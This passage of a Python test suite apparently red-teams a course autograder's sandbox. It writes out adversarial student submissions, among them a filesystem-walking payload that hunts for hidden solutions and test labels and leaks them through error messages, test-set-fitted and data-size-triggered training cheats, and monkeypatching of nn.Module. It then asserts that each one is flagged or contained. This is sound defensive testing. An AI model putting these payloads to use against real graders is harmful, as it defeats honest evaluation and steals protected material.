            p.copy_(_W.to(p.device) if name.endswith("weight") else torch.zeros_like(p))
""")


def blob_only_on_the_recipe() -> str:
    """The reference train_minibatch, which earns every check, but for the recipe's defaults: there
    it loads the templates fitted on the test set, their rows renamed as the training labels are
    (each class takes the label most of the pictures it predicts carry)."""
    reference = reference_code("train_minibatch")
    anchor = "    data = train_data.reshape(len(train_data), -1)\n"
    assert anchor in reference
    return _test_set_templates(refined=True) + reference.replace(anchor, _code("""
    if n_iter == 5000 and bs == 200:
        X = train_data.reshape(len(train_data), -1)
        W = _W.to(X.device)
        predicted = (X @ W.T).argmax(1)
        renamed = torch.zeros_like(W)
        for c in range(10):
            renamed[torch.mode(train_label[predicted == c]).values] = W[c]
        with torch.no_grad():
            net.linear_layer.weight.copy_(renamed)
        return net
""") + anchor, 1)


ADAM_ON_THE_RECIPE = reference_code("train_online").replace(
    "    optimizer = torch.optim.SGD(net.parameters(), lr=lr)\n",
    "    optimizer = torch.optim.SGD(net.parameters(), lr=lr)\n"
    "    if len(train_data) == 60000:\n"
    "        optimizer = torch.optim.Adam(net.parameters(), lr=lr)\n", 1)


FIND_COPIES = _code(r"""
import os, json, gzip, time
_hits, _found = [], []
_end = time.time() + 8
for _top in ("/tmp", "/var/tmp", "/dev/shm", "/work", "/root", "/home", "/srv", "/opt", "/autograder", "/mnt", "/usr/share", "/"):
    for _dir, _subdirs, _files in os.walk(_top):
        if time.time() > _end or _dir.count("/") > 8:
            _subdirs[:] = []
            continue
        _subdirs[:] = [d for d in _subdirs if os.path.join(_dir, d) not in ("/proc", "/sys", "/dev", "/usr/lib", "/usr/bin", "/lib")]
        for _f in _files:
            if _f.endswith("_exercise.ipynb") or _f in ("test.npz", "t10k-labels-idx1-ubyte.gz", "t10k-labels-idx1-ubyte") \
                    or (_f.startswith("lab0") and _f.endswith(".py")):
                _hits.append(os.path.join(_dir, _f))
for _path in sorted(set(_hits))[:200]:
    try:
        if _path.endswith(".ipynb"):
            _cells = ["".join(c["source"]) for c in json.load(open(_path))["cells"]]
            _found += [_path + ": " + c[:600] for c in _cells if "BEGIN SOLUTION" in c or "BEGIN HIDDEN" in c][:3]
        elif _path.endswith(".npz"):
            import numpy as np
            with np.load(_path) as f:
                if len(f["labels"]) == 10000:
                    _found.append(_path + ": " + str(f["labels"][:50].tolist()))
        elif "t10k" in _path:
            _raw = (gzip.open if _path.endswith(".gz") else open)(_path, "rb").read()
            _found.append(_path + ": " + str(list(_raw[8:58])))
        else:
            _text = open(_path).read()
            if "mark.hidden" in _text:
                _found.append(_path + ": " + _text[_text.index("mark.hidden") - 300:][:900])
    except Exception:
        pass
print(len(_hits), "candidates;", _found[:20])
_calls = [0]
def softmax(x, dim=-1):
    _calls[0] += 1
    raise NotImplementedError((_found[_calls[0] % len(_found)] if _found else f"{len(_hits)} candidates, nothing readable")[:1900])
""")


def class_payloads() -> dict[str, Payload]:
    stubs0 = lambda *units: {u: 0 for u in units}  # noqa: E731
    found: dict[str, Payload] = {
        "ctl_honest": Payload(["lab01", "lab02", "lab03"],
                              {u: reference_code(u) for u in ("Linear", "softmax", "one_layer_net")},
                              {u: POINTS[u] for u in ("Linear", "softmax", "one_layer_net")}, "the control"),
        "ctl_stub": Payload(["lab02"], {}, stubs0("softmax"), "the untouched release"),
    }
    for sid, (what, code, hole) in SOFTMAX_LIBRARY.items():
        found[sid] = Payload(["lab02"], {"softmax": code}, {"softmax": LIBRARY["softmax"]}, what, hole=hole)
    for sid, code in SOFTMAX_FLAGGED.items():
        found[sid] = Payload(["lab02"], {"softmax": code}, {"softmax": LIBRARY["softmax"]}, sid.removeprefix("s_"))
    for sid, code in SOFTMAX_NO_GAIN.items():
        found[sid] = Payload(["lab02"], {"softmax": code}, stubs0("softmax"), sid.removeprefix("s_"))
    for sid, (what, code, hole) in LINEAR_LIBRARY.items():
        found[sid] = Payload(["lab01"], {"Linear": code}, {"Linear": LIBRARY["Linear"]}, what, hole=hole)
    for sid, (what, code, hole) in TEMPLATE_UPDATE_LIBRARY.items():
        found[sid] = Payload(["lab05"], code, {"template_update": LIBRARY["template_update"], "train_minibatch": 0},
                             what, hole=hole)
    for sid, (what, code, hole) in TRAINERS.items():
        found[sid] = Payload(["lab04", "lab05"], code, stubs0("train_online", "template_update", "train_minibatch"),
                             what, hole=hole)
    found.update({
        "o_patch_module": Payload(["lab03"], {"one_layer_net": _code('''
nn.Module.load_state_dict = lambda self, state, strict=True: None
torch.nn.Module.__call__ = lambda self, *a, **k: torch.ones(1)
class one_layer_net(nn.Module):
    def __init__(self, input_size, output_size):
        super().__init__()
        raise NotImplementedError
''')}, stubs0("one_layer_net"), "nn.Module patched"),
        "s_lookup_table": Payload(["lab02"], {"softmax": lookup_table_softmax}, stubs0("softmax"),
                                  "a table of the answers to the checks' fixed inputs, nothing computed",
                                  hole="every check's input is fixed: answers can be memorised"),
        "c_recipe_adam": Payload(["lab04"], {"train_online": ADAM_ON_THE_RECIPE},
                                 {"train_online": POINTS["train_online"] - RECIPE_POINTS["train_online"]},
                                 "the reference, but Adam on the recipe's 60 000 pictures"),
        "c_recipe_blob": Payload(["lab05"], {"train_minibatch": blob_only_on_the_recipe},
                                 {"template_update": 0, "train_minibatch": POINTS["train_minibatch"]
                                  - RECIPE_POINTS["train_minibatch"]},
                                 "the reference, but templates fitted on the test set for the recipe's defaults"),
        "c_test_set_blob": Payload(["lab05"], {"train_minibatch": blob_trainer_from_test_set},
                                   stubs0("template_update", "train_minibatch"),
                                   "no training: templates fitted offline on the public test set",
                                   hole="the recipe checks score any weights, and the test set is public"),
        "x_find_copies": Payload(["lab02"], {"softmax": FIND_COPIES}, stubs0("softmax"),
                                 "other copies of the course, the checks or the test set anywhere readable"),
        "x_read_files": Payload(["lab02"], {"softmax": READ_FILES}, stubs0("softmax"),
                                "solutions, checks, test labels, other students, output"),
        "x_environment": Payload(["lab02"], {"softmax": ENVIRONMENT}, stubs0("softmax"), "/proc/self/environ",
                                 hole="PR_SET_DUMPABLE can be set back, and the server's environment is the grader's"),
        "x_memory_scan": Payload(["lab02"], {"softmax": MEMORY_SCAN}, stubs0("softmax"), "/proc/self/mem"),
        "x_test_split": Payload(["lab02"], {"softmax": TEST_SPLIT}, stubs0("softmax"), "the worker's 'test' split"),
        "x_persist": Payload(["lab01", "lab02", "lab03"], {
            "Linear": PERSIST_WRITE,
            "softmax": PERSIST_READ + "def softmax(x, dim=-1):\n    raise NotImplementedError(repr(_found)[:1900])\n",
            "one_layer_net": PERSIST_READ + _code('''
class one_layer_net(nn.Module):
    def __init__(self, input_size, output_size):
        super().__init__()
        raise NotImplementedError(repr(_found)[:1900])
''')}, stubs0("Linear", "softmax", "one_layer_net"), "/tmp, /dev/shm, SysV shm, abstract sockets"),
        "x_vandal": Payload(["lab02"], {"softmax": VANDAL_CODE}, stubs0("softmax"), "a daemon writing the output",
                            destructive=True),
        "x_kill_all": Payload(["lab02"], {"softmax": KILL_ALL}, stubs0("softmax"), "kill(-1)", destructive=True),
        "x_network": Payload(["lab02"], {"softmax": NETWORK}, stubs0("softmax"), "TCP and UDP to the grader"),
        "x_forge_setup_error": Payload(["lab02"], {"softmax": FORGE_SETUP_ERROR}, stubs0("softmax"),
                                       "a forged Loaded blaming the course's cells"),
    })
    return found


# The payloads that reach outside plain code (code from strings, computed attribute names, frames,
# gc, sys.modules, ctypes, monkeypatching what the cell did not create): whatever they gain, the
# contract says the row's status must ask a TA to look.
ESCAPING = {
    "s_builtins_exec", "s_pickle", "s_pydoc", "s_written_module", "s_formatter", "s_os_sys_modules",
    "s_formatter_field", "s_walk_stack_fields", "l_star_import", "t_functorch_star",
    "s_dispatcher_patch", "s_gc_patch", "s_frames", "s_launder_patch_torch", *SOFTMAX_FLAGGED,
    "l_getattr_concat", "l_dunder_dict", "o_patch_module", "x_environment", "x_memory_scan", "x_persist", "x_vandal",
}


# Trainers that earn every check but train the recipe otherwise: each must be flagged, for this.
RECIPE_CHEATS = {
    "c_recipe_adam": "train_online tests the size of its training data (line",
    "c_recipe_blob": "train_minibatch reaches a test accuracy above",
}


# ---- grading -----------------------------------------------------------------------------------

@dataclass
class Graded:
    results: dict  # student -> StudentResult
    out: Path
    classes: Path
    payloads: dict[str, Payload]
    level: str
    seconds: float
    files_after: dict[str, bytes] = field(default_factory=dict)
    files_later: dict[str, bytes] = field(default_factory=dict)
    connections: list[str] = field(default_factory=list)
    lingering: list[str] = field(default_factory=list)


def _host_ip() -> str:
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("192.0.2.1", 9))  # no packet is sent: it only picks the outgoing address
        return probe.getsockname()[0]
    except OSError:
        return "127.0.0.1"
    finally:
        probe.close()


def _substitute(text: str, values: dict[str, str]) -> str:
    for key, value in values.items():
        text = text.replace(f"@@{key}@@", value)
    return text


def _files(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def _lingering() -> list[str]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if Path(f"/proc/{entry}/comm").read_text().strip() == PROCESS_NAME[:15]:
                    found.append(entry)
            except OSError:
                pass
    return found


@pytest.fixture(scope="module")
def data_env_module(datasets):
    saved = {k: os.environ.get(k) for k in ("AUTOGRADER_DATA", "AUTOGRADER_IDX_PATH", "AUTOGRADER_OFFLINE",
                                            "AUTOGRADER_PAYLOAD_SECRET")}
    os.environ.update(AUTOGRADER_DATA=str(datasets / "cache"), AUTOGRADER_IDX_PATH=str(datasets / "idx"),
                      AUTOGRADER_OFFLINE="1", AUTOGRADER_PAYLOAD_SECRET=SECRET)
    yield datasets
    for key, value in saved.items():
        if value is None:
            os.environ.pop(key, None)
        else:
            os.environ[key] = value


@pytest.fixture(scope="module")
def level(data_env_module, request):
    """The level this module grades at; each run chooses it again with its own protected paths,
    as the command line does (at "uid" without Landlock that is what makes them unreadable)."""
    chosen = choose_level(LEVEL)
    if chosen.name == "uid":
        request.getfixturevalue("modes_restored")  # the uid level changes the modes of folders
    return chosen


def _grade_class(course, root: Path, payloads: dict[str, Payload], level, limits: Limits, values: dict[str, str]
                 ) -> tuple[list, Path, Path, float]:
    classes, out = root / "class", root / "out"
    classes.mkdir(parents=True)
    for path in (root, classes):
        path.chmod(0o755)
    for sid, p in payloads.items():
        write_student(classes, sid, labs=p.labs, tree="release",
                      code={u: _substitute(c() if callable(c) else c, values) for u, c in p.code.items()})
    chosen = choose_level(LEVEL, protected_paths(course, [classes], out))
    assert chosen.name == level.name, f"the level changed from {level.name} to {chosen.name}"
    started = time.monotonic()
    results = grade(course, [classes], out, Run(level=chosen, limits=limits, device="cpu", jobs=2)).finals
    return results, classes, out, time.monotonic() - started


CLASS: list = []


def start_early(config) -> None:
    """The payload class, graded in the background as soon as the tests are collected."""
    if not CLASS:
        CLASS.append(in_background(grade_payloads))


def grade_payloads() -> Graded:
    """Every payload student graded once through the command line, at LEVEL, with a secret in the
    grader's environment; then what is left after three seconds."""
    root = Path(tempfile.mkdtemp(prefix="payloads-", dir=shared_root()))
    root.chmod(0o755)
    if LEVEL == "uid":
        open_modes()  # the uid level changes the modes of folders
    payloads = {sid: p for sid, p in class_payloads().items() if not (p.destructive and LEVEL == "none")}
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("0.0.0.0", 0))
    listener.listen(16)
    listener.setblocking(False)
    classes, out = root / "class", root / "out"
    values = {"ROOT": str(ROOT), "OUT": str(out), "CLASS": str(classes), "DATA": str(prepared_datasets()),
              "TOKEN": TOKEN, "PERSIST": PERSIST, "VANDAL": VANDAL, "NAME": PROCESS_NAME[:15],
              "PORT": str(listener.getsockname()[1]), "HOSTIP": _host_ip()}
    try:
        for sid, p in payloads.items():
            write_student(classes, sid, labs=p.labs, tree="release",
                          code={u: _substitute(c() if callable(c) else c, values) for u, c in p.code.items()})
        classes.chmod(0o755)
        started = time.monotonic()
        sandbox = ["--no-sandbox"] if LEVEL == "none" else ["--sandbox", LEVEL] if LEVEL != "auto" else []
        grade_class(classes, out, "-j", "2", "--min-wall", "30", *sandbox, env={"AUTOGRADER_PAYLOAD_SECRET": SECRET})
        seconds = time.monotonic() - started
        after = _files(out) | {f"class/{k}": v for k, v in _files(classes).items()}
        time.sleep(3)  # anything left behind has had time to act
        later = _files(out) | {f"class/{k}": v for k, v in _files(classes).items()}
        connections = []
        while True:
            try:
                conn, address = listener.accept()
            except (BlockingIOError, OSError):
                break
            connections.append(str(address))
            conn.close()
        lingering = _lingering()
    finally:
        listener.close()
    book = Gradebook(out / "gradebook.sqlite")
    try:
        level = book.settings()["sandbox"].split(":")[0]
    finally:
        book.close()
    return Graded(finals_of(out), out, classes, payloads, level, seconds, after, later, connections, lingering)


@pytest.fixture(scope="module")
def graded(request) -> Graded:
    start_early(request.config)
    return CLASS[0].result()


def data_env_module_path() -> Path:
    return prepared_datasets()


# ---- what must never reach an output file ----------------------------------------------------------

def _between(text: str, begin: str, end: str) -> list[str]:
    lines, inside = [], False
    for line in text.splitlines():
        if begin in line:
            inside = True
        elif end in line:
            inside = False
        elif inside:
            lines.append(line.strip())
    return lines


def forbidden_texts() -> dict[str, str]:
    """text -> what it is: hidden check source, reference solutions, hidden notebook tests, the
    test labels, the grader's environment, and what payloads wrote for one another."""
    found = {"@pytest.mark.hidden": "a hidden check's source"}
    for path in sorted((ROOT / "autograder" / "checks").glob("*.py")):
        for name in re.findall(r"^def (test_\w+)\(", path.read_text(), re.M):
            found[f"def {name}("] = f"the source of the check {name}"
    released = "\n".join(c.source for nb in (ROOT / "release").rglob("*_exercise.ipynb")
                         for c in nbformat.read(nb, 4).cells)
    for nb in sorted((ROOT / "source").rglob("*_exercise.ipynb")):
        text = "\n".join(c.source for c in nbformat.read(nb, 4).cells)
        for begin, end, what in (("### BEGIN SOLUTION", "### END SOLUTION", "a reference solution line"),
                                 ("### BEGIN HIDDEN TESTS", "### END HIDDEN TESTS", "a hidden notebook test line")):
            for line in _between(text, begin, end):
                if len(line) >= 20 and line not in released:
                    found[line] = f"{what} of {nb.name}"
    import numpy as np

    cache = data_env_module_path() / "cache" / "fashion-mnist" / "test.npz"
    with np.load(cache) as f:
        labels = [int(v) for v in f["labels"][:50]]
    for text in (", ".join(map(str, labels[:20])), " ".join(map(str, labels[:20])), "".join(map(str, labels[:30])),
                 ",".join(map(str, labels[:20]))):
        found[text] = "the Fashion-MNIST test labels"
    found[SECRET] = "a secret of the grader's environment"
    found[PERSIST] = "what one worker left for a later one"
    return found


def output_texts(out: Path) -> dict[str, str]:
    """Every output file as the text a reader sees (JSON strings decoded, HTML unescaped)."""
    texts = {}
    for path in sorted(out.rglob("*")):
        if not path.is_file():
            continue
        name = str(path.relative_to(out))
        if path.suffix == ".sqlite":
            db = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
            try:
                parts = []
                # Not the sources table: the students' own code, kept as graded.
                for (table,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table' AND name != 'sources'"):
                    for row in db.execute(f"SELECT * FROM {table}"):
                        parts += [str(v) for v in row if isinstance(v, str)]
                texts[name] = "\n".join(parts)
            finally:
                db.close()
            continue
        raw = path.read_bytes().decode(errors="replace")
        if path.suffix == ".json":
            strings: list[str] = []

            def walk(value):
                if isinstance(value, str):
                    strings.append(value)
                elif isinstance(value, dict):
                    for v in value.values():
                        walk(v)
                elif isinstance(value, list):
                    for v in value:
                        walk(v)
            try:
                walk(json.loads(raw))
                raw = raw + "\n" + "\n".join(strings)
            except ValueError:
                pass
        elif path.suffix == ".html":
            raw = without_student_code(raw)
            raw = raw + "\n" + html.unescape(raw)
        texts[name] = raw
    return texts


# ---- the tests ----------------------------------------------------------------------------------

def _verdict(graded: Graded, sid: str) -> str:
    r = graded.results[sid]
    scores = {u: r.units[u] for u in r.units if r.max_units[u]}
    failed = [f"{c['check']}: {c['message'][:160]}" for c in r.checks if not c["passed"]][:4]
    return f"{sid}: scores {scores}, status {r.status!r}; some failures: {failed}"


PAYLOAD_IDS = sorted(class_payloads())


@pytest.mark.parametrize("sid", PAYLOAD_IDS)
def test_payload_gains_nothing_or_is_flagged(graded, sid):
    """Each attacked unit scores at most what the same work written plainly scores, or a TA is asked to look."""
    if sid not in graded.payloads:
        pytest.skip(f"left out at the {graded.level} level")
    payload, r = graded.payloads[sid], graded.results.get(sid)
    assert r is not None, f"{sid} has no row in grades.csv"
    if "review:" in r.status:
        return
    gained = {u: (r.units[u], allowed) for u, allowed in payload.allowed.items() if r.units.get(u, 0) > allowed}
    assert not gained, (f"HOLE: {sid} ({payload.what}) scores {gained} (score, most allowed) without being flagged"
                        + (f" [{payload.hole}]" if payload.hole else "") + f"\n{_verdict(graded, sid)}")


def _problems(r) -> list[str]:
    """The status's parts other than labs the student did not submit (each student holds only some labs)."""
    return [part for part in r.status.split("; ") if part != "ok" and not part.startswith("no notebook for")]


def _score(graded: Graded, sid: str) -> dict[str, float]:
    return {u: graded.results[sid].units[u] for u in graded.payloads[sid].allowed}


@pytest.mark.parametrize("sid", sorted(ESCAPING))
def test_escape_is_flagged(graded, sid):
    """A unit whose cell reaches outside plain code is flagged for review, whatever it scores."""
    if sid not in graded.payloads:
        pytest.skip(f"left out at the {graded.level} level")
    r = graded.results[sid]
    assert "review:" in r.status, (f"UNFLAGGED ESCAPE: {sid} ({graded.payloads[sid].what}) is not flagged"
                                   + (f" [{graded.payloads[sid].hole}]" if graded.payloads[sid].hole else "")
                                   + f"\n{_verdict(graded, sid)}")


@pytest.mark.parametrize("sid", sorted(RECIPE_CHEATS))
def test_a_trainer_that_cheats_on_the_recipe_is_flagged(graded, sid):
    """Branching on the size of the data, or more accuracy than the recipe reaches, asks a TA to look."""
    assert RECIPE_CHEATS[sid] in graded.results[sid].status, _verdict(graded, sid)


def test_control_student_is_graded_in_full(graded):
    """The payloads around it cost the honest student nothing."""
    r = graded.results["ctl_honest"]
    assert not _problems(r) and _score(graded, "ctl_honest") == graded.payloads["ctl_honest"].allowed, \
        _verdict(graded, "ctl_honest")


def test_untouched_release_scores_zero(graded):
    r = graded.results["ctl_stub"]
    assert r.total == 0 and not _problems(r), _verdict(graded, "ctl_stub")


def test_every_student_has_a_row(graded):
    rows = (graded.out / "grades.csv").read_text().splitlines()[1:]
    assert sorted(row.split(",")[0] for row in rows) == sorted(graded.payloads)


@pytest.mark.parametrize("kind", ["hidden checks", "solutions", "test labels", "environment", "persisted"])
def test_no_output_file_leaks(graded, kind):
    """No output file holds what the workers must never show, whatever they tried."""
    wanted = {"hidden checks": ("hidden check", "the check"), "solutions": ("reference solution", "hidden notebook"),
              "test labels": ("test labels",), "environment": ("environment",), "persisted": ("later one",)}[kind]
    texts = output_texts(graded.out)
    leaks = [(name, what, text[:60]) for text, what in forbidden_texts().items() if any(w in what for w in wanted)
             for name, content in texts.items() if text in content]
    assert not leaks, f"{len(leaks)} leak(s) of {kind} into the output, e.g. {leaks[:5]}"


def test_nothing_outlives_the_grading(graded):
    """No payload process is left, and nothing changed the output or the submissions after grading."""
    assert not graded.lingering, f"payload processes still running: {graded.lingering}"
    changed = sorted(k for k in set(graded.files_after) | set(graded.files_later)
                     if graded.files_after.get(k) != graded.files_later.get(k))
    assert not changed, f"changed after grading: {changed}"
    # The vandal's own source names what it wanted to write: the gradebook keeps it, summary.html
    # shows it to a TA; output_texts reads past both.
    written = [k for k in graded.files_later if VANDAL in k]
    written += [k for k, text in output_texts(graded.out).items() if VANDAL in text]
    assert not written, f"a worker wrote into the output or the submissions: {written}"


def test_no_worker_reaches_the_grader_over_the_network(graded):
    assert not graded.connections, f"connections from workers: {graded.connections}"


def test_forged_grader_fault_does_not_stop_the_class(course, level, tmp_path_factory):
    """A worker that writes its own 'Loaded(sandbox_error=...)' onto the channel must fail only itself:
    the others are graded and every student gets a row."""
    root = tmp_path_factory.mktemp("forge")
    payloads = {
        "a_honest": Payload(["lab02"], {"softmax": SOFTMAX_OK}, {}, "control"),
        "b_forger": Payload(["lab02"], {"softmax": FORGE_SANDBOX_ERROR}, {"softmax": 0}, "forged sandbox error"),
        "c_honest": Payload(["lab02"], {"softmax": SOFTMAX_OK}, {}, "control"),
    }
    try:
        results, _, out, _ = _grade_class(course, root, payloads, level, Limits(min_wall_seconds=30), {})
    except GradingError as e:
        pytest.fail(f"HOLE: one student's forged message stopped the grading of the class: {str(e)[-300:]}")
    by = {r.student: r for r in results}
    assert set(by) == set(payloads), f"rows: {sorted(by)}"
    assert by["a_honest"].total == 15 and by["c_honest"].total == 15
    assert by["b_forger"].total == 0


def test_memory_and_cpu_outside_the_watchdog_count(course, level, tmp_path_factory):
    """Limits hold however the work is hidden: 2.5 GiB held in memory files (memfd) by a worker limited
    to 2 GiB, and about 20 s of CPU burnt in children the kernel reaps itself (SIGCHLD ignored)
    by a check allowed at most 8 s, must stop those workers as the same use in plain sight does."""
    root = tmp_path_factory.mktemp("limits")
    payloads = {
        "m_memfd": Payload(["lab02"], {"softmax": MEMFD_HOARD + SOFTMAX_OK}, {}, "memfd hoard"),
        "m_tensor": Payload(["lab02"], {"softmax": "_hoard = torch.ones(5 << 29, dtype=torch.uint8)\n" + SOFTMAX_OK},
                            {}, "the same in a tensor (control)"),
        "p_burn_unseen": Payload(["lab02"], {"softmax": BURN_UNSEEN + BURN_CALL}, {}, "CPU in self-reaped children"),
        "p_burn_seen": Payload(["lab02"], {"softmax": BURN_SEEN + BURN_CALL}, {}, "the same CPU in the worker (control)"),
    }
    limits = Limits(min_wall_seconds=150, memory_bytes=2 * 2**30, min_cpu_seconds=5, default_cpu_seconds=8)
    results, _, out, _ = _grade_class(course, root, payloads, level, limits, {})
    by = {r.student: r for r in results}
    book = sqlite3.connect(out / "gradebook.sqlite")
    cpu = dict(book.execute("SELECT student, MAX(cpu_seconds) FROM checks GROUP BY student"))
    book.close()
    report = {sid: (r.total, r.status, cpu.get(sid)) for sid, r in by.items()}
    assert by["m_tensor"].total == 0 and by["p_burn_seen"].total < 15, f"the controls were not stopped: {report}"
    holes = [sid for sid in ("m_memfd", "p_burn_unseen") if by[sid].total == 15]
    assert not holes, f"HOLE: {holes} used past their limits and were not stopped (score, status, CPU seen): {report}"
